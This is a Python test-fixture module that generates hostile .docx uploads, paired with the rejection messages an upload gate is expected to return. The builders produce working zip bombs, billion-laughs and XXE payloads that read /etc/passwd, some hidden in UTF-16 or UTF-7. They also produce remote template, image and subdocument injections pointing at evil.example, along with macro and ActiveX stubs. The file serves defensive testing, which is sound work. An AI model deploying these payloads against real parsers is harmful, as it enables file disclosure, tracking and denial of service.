"""A corpus of hostile .docx uploads built in code at test time, and good documents beside it.

Nothing binary is committed: every builder returns bytes. `HOSTILE` maps a case to its builder
and `EXPECTED` maps the same case to a fragment of the message the upload gate must answer with,
so the upload page and the CLI tests can reuse the corpus. `GOOD` holds documents that must pass.
"""

import functools
import io
import random
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import docx
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from docx.shared import Cm

MiB = 1 << 20
FIXTURES = Path(__file__).parent / "fixtures" / "docx"
CONTENT_TYPES = "[Content_Types].xml"
DOCUMENT = "word/document.xml"
DOCUMENT_RELS = "word/_rels/document.xml.rels"
RELS_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
W_NS = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        f'xmlns:r="{RELS_NS}"')


# ---------------------------------------------------------------- good documents


def png(width: int = 8, height: int = 8) -> bytes:
    """Return a small, valid RGB PNG."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body)
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)
    pixel = lambda x, y: bytes((x * 30 % 256, y * 30 % 256, 128))  # noqa: E731
    rows = b"".join(b"\x00" + b"".join(pixel(x, y) for x in range(width)) for y in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows))
            + chunk(b"IEND", b""))


def _save(document) -> bytes:
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def add_hyperlink(paragraph, url: str, text: str) -> None:
    """Append a real external hyperlink (python-docx has no API for one)."""
    r_id = paragraph.part.relate_to(url, RT.HYPERLINK, is_external=True)
    link, run, label = OxmlElement("w:hyperlink"), OxmlElement("w:r"), OxmlElement("w:t")
    link.set(qn("r:id"), r_id)
    label.text = text
    run.append(label)
    link.append(run)
    paragraph._p.append(link)


@functools.cache
def python_docx_plain() -> bytes:
    """A short policy with headings and paragraphs, written by python-docx."""
    document = docx.Document()
    document.add_heading("Customer contact policy", 0)
    document.add_heading("Scope", 1)
    document.add_paragraph("Staff contact customers whose debt is overdue only through the "
                           "registered channels.")
    document.add_paragraph("Chính sách này áp dụng cho toàn bộ nhân viên thu hồi nợ.")
    return _save(document)


@functools.cache
def python_docx_rich() -> bytes:
    """A policy with numbering, bullets, a merged table, a picture, a link, header and comment."""
    document = docx.Document()
    document.core_properties.title = "Collection scenarios"
    document.add_heading("Collection scenarios", 0)
    document.add_heading("1 Early arrears", 1)
    for clause in ("Call on day 10.", "Send a letter on day 30.", "Visit on day 60."):
        document.add_paragraph(clause, style="List Number")
    document.add_paragraph("Never call before 07:00.", style="List Bullet")
    table = document.add_table(rows=3, cols=3, style="Table Grid")
    for row, cells in zip(table.rows, (("Bucket", "From", "To"), ("B1", "10", "90"),
                                       ("B2", "91", "")), strict=True):
        for cell, text in zip(row.cells, cells, strict=True):
            cell.text = text
    table.cell(2, 1).merge(table.cell(2, 2))
    document.add_picture(io.BytesIO(png()), width=Cm(2))
    add_hyperlink(document.add_paragraph("See "), "https://www.sbv.gov.vn/", "the State Bank")
    document.sections[0].header.paragraphs[0].text = "COL-SCN-003 - internal"
    document.sections[0].footer.paragraphs[0].text = "Compliance"
    paragraph = document.add_paragraph("Reviewed by compliance.")
    document.add_comment(paragraph.runs, text="Checked against circular 18", author="Compliance")
    return _save(document)


def word_written() -> bytes:
    """python-docx's own template, saved by Microsoft Word (its app.xml says so), as it ships."""
    return (Path(docx.__file__).parent / "templates" / "default.docx").read_bytes()


def libreoffice_fixture() -> bytes:
    """The committed LibreOffice-written .docx (source: safety_libreoffice_features.fodt)."""
    return (FIXTURES / "safety_libreoffice_features.docx").read_bytes()


GOOD: dict[str, Callable[[], bytes]] = {
    "python_docx_plain": python_docx_plain,
    "python_docx_rich": python_docx_rich,
    "word_written": word_written,
    "libreoffice_fixture": libreoffice_fixture,
}


# ---------------------------------------------------------------- building blocks


def members(data: bytes) -> dict[str, bytes]:
    """Return the parts of a zip, in order."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def pack(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Zip parts with the standard library (duplicate names allowed)."""
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w", method) as archive:
        warnings.simplefilter("ignore", UserWarning)  # "Duplicate name" is the point of one case
        for name, body in parts.items():
            archive.writestr(name, body)
    return buffer.getvalue()


def relationship(r_id: str, kind: str, target: str, external: bool = False) -> bytes:
    """Return one Relationship element of the transitional namespace."""
    mode = ' TargetMode="External"' if external else ""
    return (f'<Relationship Id="{r_id}" Type="{RELS_NS}/{kind}" Target="{target}"{mode}/>'
            ).encode()


def relationships(*elements: bytes) -> bytes:
    """Return a whole .rels part."""
    return (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
            b'"http://schemas.openxmlformats.org/package/2006/relationships">'
            + b"".join(elements) + b"</Relationships>")


def word_xml(body: str, prolog: str = "") -> bytes:
    """Return a document.xml with the given body content and optional DOCTYPE prolog."""
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{prolog}'
            f"<w:document {W_NS}><w:body>{body}</w:body></w:document>").encode()


def paragraph(text: str) -> str:
    """Return one paragraph of plain text as WordprocessingML."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def variant(parts: dict[str, bytes] | None = None, drop: tuple[str, ...] = (),
            overrides: dict[str, str] | None = None, defaults: dict[str, str] | None = None,
            document_rels: tuple[bytes, ...] = (), main_type: str = "",
            method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return the plain python-docx document with parts, content types or relationships changed."""
    changed = members(python_docx_plain())
    for name in drop:
        changed.pop(name)
    changed.update(parts or {})
    types = changed.get(CONTENT_TYPES, b"")
    for extension, content_type in (defaults or {}).items():
        types = types.replace(b"</Types>", f'<Default Extension="{extension}" ContentType='
                              f'"{content_type}"/></Types>'.encode())
    for part_name, content_type in (overrides or {}).items():
        types = types.replace(b"</Types>", f'<Override PartName="{part_name}" ContentType='
                              f'"{content_type}"/></Types>'.encode())
    if main_type:
        types = types.replace(WORD_MAIN.encode(), main_type.encode())
    if CONTENT_TYPES in changed:
        changed[CONTENT_TYPES] = types
    for element in document_rels:
        changed[DOCUMENT_RELS] = changed[DOCUMENT_RELS].replace(
            b"</Relationships>", element + b"</Relationships>")
    return pack(changed, method)


@dataclass(frozen=True)
class RawEntry:
    """A zip entry written by hand, so its header can say anything."""

    name: str
    stream: bytes  # the bytes as stored
    crc: int
    size: int  # the unpacked size the headers declare
    method: int = zipfile.ZIP_DEFLATED
    flags: int = 0

    def local(self) -> bytes:
        name = self.name.encode()
        return struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, self.flags, self.method, 0, 0x21,
                           self.crc, len(self.stream), self.size, len(name), 0) + name + self.stream

    def central(self, offset: int, name: str = "") -> bytes:
        encoded = (name or self.name).encode()
        return struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, self.flags, self.method, 0,
                           0x21, self.crc, len(self.stream), self.size, len(encoded), 0, 0, 0, 0,
                           0, offset) + encoded


def deflated(name: str, body: bytes) -> RawEntry:
    """Return an honest deflated entry."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return RawEntry(name, compressor.compress(body) + compressor.flush(), zlib.crc32(body),
                    len(body))


def raw_zip(entries: list[RawEntry], aliases: tuple[str, ...] = ()) -> bytes:
    """Pack entries by hand; each alias is one more directory entry for the last local entry."""
    body, directory, offset = bytearray(), bytearray(), 0
    for entry in entries:
        offset = len(body)
        body += entry.local()
        directory += entry.central(offset)
    for alias in aliases:
        directory += entries[-1].central(offset, alias)
    count = len(entries) + len(aliases)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), len(body), 0)
    return bytes(body + directory + end)


def good_entries() -> list[RawEntry]:
    """Return the plain document's parts as hand-made entries."""
    return [deflated(name, body) for name, body in members(python_docx_plain()).items()]


def repeated_stream(unit: bytes, count: int, head: bytes = b"", tail: bytes = b""
                    ) -> tuple[bytes, int, int]:
    """Deflate head + unit * count + tail cheaply: after a full flush the unit packs the same.

    Returns (stream, crc, size). Only one unit is ever compressed, so hundreds of MB cost a few
    milliseconds; the CRC is computed honestly.
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(unit) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.compress(tail) + compressor.flush()
    crc = zlib.crc32(head)
    for _ in range(count):
        crc = zlib.crc32(unit, crc)
    crc = zlib.crc32(tail, crc)
    return start + block * count + end, crc, len(head) + len(unit) * count + len(tail)


# ---------------------------------------------------------------- hostile uploads


def random_bytes() -> bytes:
    return random.Random(3).randbytes(64 * 1024)


def zip_signature_then_noise() -> bytes:
    return b"PK\x03\x04" + random.Random(4).randbytes(4096)


def truncated_zip() -> bytes:
    data = python_docx_rich()
    return data[:len(data) // 2]


def truncated_end() -> bytes:
    return python_docx_rich()[:-10]


def huge_file() -> bytes:
    """A real document padded with a 21 MB stored picture: over the default 20 MB limit."""
    parts = members(python_docx_plain())
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
        archive.writestr("word/media/scan.bin", bytes(21 * MiB), zipfile.ZIP_STORED)
    return buffer.getvalue()


def ole_compound_file() -> bytes:
    """What Word writes for a password-protected .docx (and what an old .doc looks like)."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + b"\x3e\x00\x03\x00\xfe\xff"
    return header + bytes(512 - len(header)) + random.Random(5).randbytes(4096)


@functools.cache
def zip_bomb() -> bytes:
    """A ~300 KB document whose picture part honestly expands to 300 MB of zeros."""
    stream, crc, size = repeated_stream(bytes(MiB), 300)
    bomb = RawEntry("word/media/image1.bin", stream, crc, size)
    return raw_zip([*good_entries(), bomb])


def zip_bomb_declared() -> bytes:
    """A ~4 KB document whose headers declare a 400 MB part (the stream holds 1 MB)."""
    stream, crc, _ = repeated_stream(bytes(MiB), 1)
    return raw_zip([*good_entries(), RawEntry("word/media/image1.bin", stream, crc, 400 * MiB)])


def zip_bomb_overlapping() -> bytes:
    """A ~20 KB quine-like zip: 250 directory entries share one 1 MB stream of zeros."""
    stream, crc, size = repeated_stream(bytes(MiB), 1)
    aliases = tuple(f"word/media/image{n}.bin" for n in range(2, 252))
    return raw_zip([*good_entries(), RawEntry("word/media/image1.bin", stream, crc, size)],
                   aliases)


def zip_bomb_many_parts() -> bytes:
    """250 separate parts of 1 MB zeros each: no part is suspicious alone, together 250 MB."""
    stream, crc, size = repeated_stream(bytes(MiB), 1)
    bombs = [RawEntry(f"word/media/image{n}.bin", stream, crc, size) for n in range(250)]
    return raw_zip([*good_entries(), *bombs])


def zip_bomb_lying_sizes() -> bytes:
    """Headers declare 1 KB, the stream inflates to 64 MB: only a bounded reader is safe."""
    stream, crc, _ = repeated_stream(bytes(MiB), 64)
    return raw_zip([*good_entries(), RawEntry("word/media/image1.bin", stream, crc, 1024)])


@functools.cache
def xml_part_bomb() -> bytes:
    """A document.xml padded with 24 MB of white space: well-formed, 1000 times packed."""
    head = word_xml(paragraph("Start"))[:-len(b"</w:body></w:document>")]
    stream, crc, size = repeated_stream(b" " * MiB, 24, head, b"</w:body></w:document>")
    entries = [e for e in good_entries() if e.name != DOCUMENT]
    return raw_zip([*entries, RawEntry(DOCUMENT, stream, crc, size)])


LAUGHS = "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))


def billion_laughs() -> bytes:
    prolog = f'<!DOCTYPE w:document [<!ENTITY lol0 "lol">{LAUGHS}]>'
    return variant({DOCUMENT: word_xml(paragraph("&lol9;"), prolog)})


def xxe_file() -> bytes:
    prolog = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return variant({DOCUMENT: word_xml(paragraph("&xxe;"), prolog)})


def xxe_utf16() -> bytes:
    """The XXE document.xml in UTF-16: a byte scan for ASCII "<!DOCTYPE" misses it."""
    prolog = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    text = word_xml(paragraph("&xxe;"), prolog).decode().replace('"UTF-8"', '"UTF-16"')
    return variant({DOCUMENT: text.encode("utf-16")})


def xxe_parameter_entity() -> bytes:
    """An out-of-band XXE through a parameter entity in styles.xml."""
    styles = (b'<?xml version="1.0"?><!DOCTYPE w:styles [<!ENTITY % remote SYSTEM '
              b'"http://evil.example/x.dtd"> %remote;]><w:styles xmlns:w="http://schemas.'
              b'openxmlformats.org/wordprocessingml/2006/main"/>')
    return variant({"word/styles.xml": styles})


def xxe_in_package_relationships() -> bytes:
    rels = members(python_docx_plain())["_rels/.rels"].replace(
        b"<Relationships", b'<!DOCTYPE r [<!ENTITY t SYSTEM "file:///etc/passwd">]><Relationships')
    return variant({"_rels/.rels": rels})


def utf7_encoded_xml() -> bytes:
    """A DOCTYPE hidden in UTF-7 ("+ADw-" is "<"), an encoding Word never writes."""
    text = ('<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE w:document +AFs-+ADw-!ENTITY '
            'xxe SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-' + word_xml(paragraph("x"))
            .decode().split("?>", 1)[1])
    return variant({DOCUMENT: text.encode("ascii")})


VBA = "application/vnd.ms-office.vbaProject"


def docm_renamed() -> bytes:
    """A macro-enabled document saved as .docm, then renamed to .docx."""
    return variant({"word/vbaProject.bin": b"\xcc\x61" + bytes(510)}, defaults={"bin": VBA},
                   document_rels=(relationship("rIdVba", "vbaProject", "vbaProject.bin"),),
                   main_type="application/vnd.ms-word.document.macroEnabled.main+xml")


def stray_vba_project() -> bytes:
    """A plain document type with a macro project slipped in beside it."""
    return variant({"word/vbaProject.bin": b"\xcc\x61" + bytes(510)}, defaults={"bin": VBA})


def dotx_renamed() -> bytes:
    return variant(main_type="application/vnd.openxmlformats-officedocument"
                             ".wordprocessingml.template.main+xml")


def xlsx_renamed() -> bytes:
    return variant(main_type="application/vnd.openxmlformats-officedocument"
                             ".spreadsheetml.sheet.main+xml")


def strict_open_xml() -> bytes:
    rels = members(python_docx_plain())["_rels/.rels"].replace(
        b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument",
        b"http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument")
    return variant({"_rels/.rels": rels})


def external_template() -> bytes:
    """Template injection: settings.xml attaches a template fetched when Word opens the file."""
    settings = members(python_docx_plain())["word/settings.xml"]
    settings = settings.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rId1"/><w:zoom', 1)
    rels = relationships(relationship("rId1", "attachedTemplate",
                                      "http://evil.example/templates/policy.dotm", True))
    return variant({"word/settings.xml": settings, "word/_rels/settings.xml.rels": rels})


def external_image() -> bytes:
    """A tracking picture: Word fetches it from outside on opening."""
    return variant(document_rels=(
        relationship("rIdImg", "image", "http://evil.example/track.png", True),))


def external_subdocument() -> bytes:
    return variant(document_rels=(
        relationship("rIdSub", "subDocument", "file:///\\\\evil.example\\share\\sub.docx", True),))


def external_frame() -> bytes:
    rels = relationships(relationship("rId1", "frame", "http://evil.example/frame.html", True))
    return variant({"word/_rels/webSettings.xml.rels": rels})


def embedded_ole_object() -> bytes:
    return variant({"word/embeddings/oleObject1.bin": ole_compound_file()},
                   defaults={"bin": "application/vnd.openxmlformats-officedocument.oleObject"},
                   document_rels=(relationship("rIdOle", "oleObject",
                                               "embeddings/oleObject1.bin"),))


def nested_zip_bomb() -> bytes:
    """An embedded workbook that is itself a zip bomb."""
    return variant({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": zip_bomb_overlapping()},
                   defaults={"xlsx": "application/vnd.openxmlformats-officedocument"
                                     ".spreadsheetml.sheet"},
                   document_rels=(relationship("rIdPkg", "package",
                                               "embeddings/Microsoft_Excel_Worksheet.xlsx"),))


def activex_control() -> bytes:
    control = (b'<?xml version="1.0" encoding="UTF-8"?><ax:ocx ax:classid="{8BD21D40-EC42-11CE-'
               b'9E0D-00AA006002F3}" xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>')
    return variant({"word/activeX/activeX1.xml": control, "word/activeX/activeX1.bin": bytes(64)},
                   overrides={"/word/activeX/activeX1.xml": "application/vnd.ms-office.activeX"
                                                            "+xml"},
                   document_rels=(relationship("rIdAx", "control", "activeX/activeX1.xml"),))


def alt_chunk() -> bytes:
    """Imported HTML that Word merges in when it opens the file."""
    html = b"<html><body><p>Pay now</p></body></html>"
    body = paragraph("Before") + '<w:altChunk r:id="rIdAlt"/>'
    return variant({DOCUMENT: word_xml(body), "word/afchunk1.htm": html},
                   defaults={"htm": "application/xhtml+xml"},
                   document_rels=(relationship("rIdAlt", "aFChunk", "afchunk1.htm"),))


def alt_chunk_element_only() -> bytes:
    return variant({DOCUMENT: word_xml(paragraph("Before") + '<w:altChunk r:id="rId99"/>')})


def too_many_parts() -> bytes:
    parts = {f"customXml/item{n}.xml": b"<a/>" for n in range(1200)}
    return variant(parts)


def missing_document_xml() -> bytes:
    return variant(drop=(DOCUMENT,))


def missing_content_types() -> bytes:
    return variant(drop=(CONTENT_TYPES,))


def encrypted_zip_entry() -> bytes:
    """Zip's own (weak) password protection on the main part."""
    entries = [RawEntry(e.name, e.stream, e.crc, e.size, e.method, 1 if e.name == DOCUMENT else 0)
               for e in good_entries()]
    return raw_zip(entries)


def bzip2_parts() -> bytes:
    return variant(method=zipfile.ZIP_BZIP2)


def duplicate_part() -> bytes:
    """Two document.xml entries: a checker could read one while the parser reads the other."""
    entries = good_entries()
    twin = deflated(DOCUMENT, xxe_document_body())
    return raw_zip([*entries, twin])


def xxe_document_body() -> bytes:
    return word_xml(paragraph("&xxe;"), '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM '
                                        '"file:///etc/passwd">]>')


def missing_relationship_target() -> bytes:
    """An image relationship to a part that is not there (python-docx raises KeyError)."""
    return variant(document_rels=(relationship("rIdNull", "image", "media/NULL"),))


def relationships_in_another_namespace() -> bytes:
    """python-docx finds no relationships in such a part and fails with AttributeError."""
    rels = members(python_docx_plain())[DOCUMENT_RELS].replace(
        b"package/2006/relationships", b"package/2006/relationshipz")
    return variant({DOCUMENT_RELS: rels})


def relationship_mode_in_lower_case() -> bytes:
    """python-docx reads TargetMode="external" as internal and looks for a part named by a URL."""
    return variant(document_rels=(relationship("rIdL", "hyperlink", "https://www.sbv.gov.vn/",
                                               True).replace(b"External", b"external"),))


def content_type_without_extension() -> bytes:
    types = members(python_docx_plain())[CONTENT_TYPES].replace(b'Extension="xml" ', b"", 1)
    return variant({CONTENT_TYPES: types})


def two_main_documents() -> bytes:
    rels = members(python_docx_plain())["_rels/.rels"].replace(b"</Relationships>", relationship(
        "rIdTwin", "officeDocument", "word/document.xml") + b"</Relationships>")
    return variant({"_rels/.rels": rels})


HOSTILE: dict[str, Callable[[], bytes]] = {
    "empty": lambda: b"",
    "random_bytes": random_bytes,
    "zip_signature_then_noise": zip_signature_then_noise,
    "truncated_zip": truncated_zip,
    "truncated_end": truncated_end,
    "huge_file": huge_file,
    "ole_compound_file": ole_compound_file,
    "zip_bomb": zip_bomb,
    "zip_bomb_declared": zip_bomb_declared,
    "zip_bomb_overlapping": zip_bomb_overlapping,
    "zip_bomb_many_parts": zip_bomb_many_parts,
    "zip_bomb_lying_sizes": zip_bomb_lying_sizes,
    "xml_part_bomb": xml_part_bomb,
    "billion_laughs": billion_laughs,
    "xxe_file": xxe_file,
    "xxe_utf16": xxe_utf16,
    "xxe_parameter_entity": xxe_parameter_entity,
    "xxe_in_package_relationships": xxe_in_package_relationships,
    "utf7_encoded_xml": utf7_encoded_xml,
    "docm_renamed": docm_renamed,
    "stray_vba_project": stray_vba_project,
    "dotx_renamed": dotx_renamed,
    "xlsx_renamed": xlsx_renamed,
    "strict_open_xml": strict_open_xml,
    "external_template": external_template,
    "external_image": external_image,
    "external_subdocument": external_subdocument,
    "external_frame": external_frame,
    "embedded_ole_object": embedded_ole_object,
    "nested_zip_bomb": nested_zip_bomb,
    "activex_control": activex_control,
    "alt_chunk": alt_chunk,
    "alt_chunk_element_only": alt_chunk_element_only,
    "too_many_parts": too_many_parts,
    "missing_document_xml": missing_document_xml,
    "missing_content_types": missing_content_types,
    "encrypted_zip_entry": encrypted_zip_entry,
    "bzip2_parts": bzip2_parts,
    "duplicate_part": duplicate_part,
    "missing_relationship_target": missing_relationship_target,
    "relationships_in_another_namespace": relationships_in_another_namespace,
    "relationship_mode_in_lower_case": relationship_mode_in_lower_case,
    "content_type_without_extension": content_type_without_extension,
    "two_main_documents": two_main_documents,
}

DAMAGED = "is not a Word document (.docx): it is damaged or of another type"
DTD = "contains a DOCTYPE or ENTITY declaration"
EXPECTED: dict[str, str] = {
    "empty": "The file is empty",
    "random_bytes": DAMAGED,
    "zip_signature_then_noise": DAMAGED,
    "truncated_zip": DAMAGED,
    "truncated_end": DAMAGED,
    "huge_file": "The file is too large: 21.0 MB, the limit is 20.0 MB",
    "ole_compound_file": "password protected, or it is an old Word 97-2003 document",
    "zip_bomb": "part word/media/image1.bin expands to 1,0",
    "zip_bomb_declared": "part word/media/image1.bin expands to",
    "zip_bomb_overlapping": "expands to 251.8 MB when unpacked",
    "zip_bomb_many_parts": "MB when unpacked, the limit is 200.0 MB",
    "zip_bomb_lying_sizes": DAMAGED,
    "xml_part_bomb": "part word/document.xml expands to",
    "billion_laughs": "part word/document.xml " + DTD,
    "xxe_file": "part word/document.xml " + DTD,
    "xxe_utf16": "part word/document.xml " + DTD,
    "xxe_parameter_entity": "part word/styles.xml " + DTD,
    "xxe_in_package_relationships": "part _rels/.rels " + DTD,
    "utf7_encoded_xml": "part word/document.xml uses a text encoding Word never writes",
    "docm_renamed": "macro-enabled document (.docm) renamed to .docx",
    "stray_vba_project": "contains macros (word/vbaProject.bin)",
    "dotx_renamed": "is a Word template (.dotx or .dotm) renamed to .docx",
    "xlsx_renamed": "its main part is application/vnd.openxmlformats-officedocument"
                    ".spreadsheetml.sheet.main+xml",
    "strict_open_xml": "Strict Open XML Document",
    "external_template": "attached to an outside template (http://evil.example/templates/",
    "external_image": "picture linked from outside the file (http://evil.example/track.png)",
    "external_subdocument": "pulls in an outside file as subDocument (file:///",
    "external_frame": "pulls in an outside file as frame (http://evil.example/frame.html)",
    "embedded_ole_object": "embedded object (word/embeddings/oleObject1.bin)",
    "nested_zip_bomb": "embedded object (word/embeddings/Microsoft_Excel_Worksheet.xlsx)",
    "activex_control": "ActiveX control (word/activeX/activeX1.",
    "alt_chunk": "content imported from another file (altChunk, in word/document.xml)",
    "alt_chunk_element_only": "(altChunk, in word/document.xml)",
    "too_many_parts": "holds more than 1000 parts",
    "missing_document_xml": "has no main document part",
    "missing_content_types": "has no [Content_Types].xml part",
    "encrypted_zip_entry": "password protected (its part word/document.xml is encrypted)",
    "bzip2_parts": "packed in a way Word never uses",
    "duplicate_part": "holds the part word/document.xml twice",
    "missing_relationship_target": "refers to the part media/NULL, which is not in the file",
    "relationships_in_another_namespace": "its part word/_rels/document.xml.rels cannot be read",
    "relationship_mode_in_lower_case": "its part word/_rels/document.xml.rels cannot be read",
    "content_type_without_extension": "its part [Content_Types].xml cannot be read",
    "two_main_documents": "has no main document part",
}
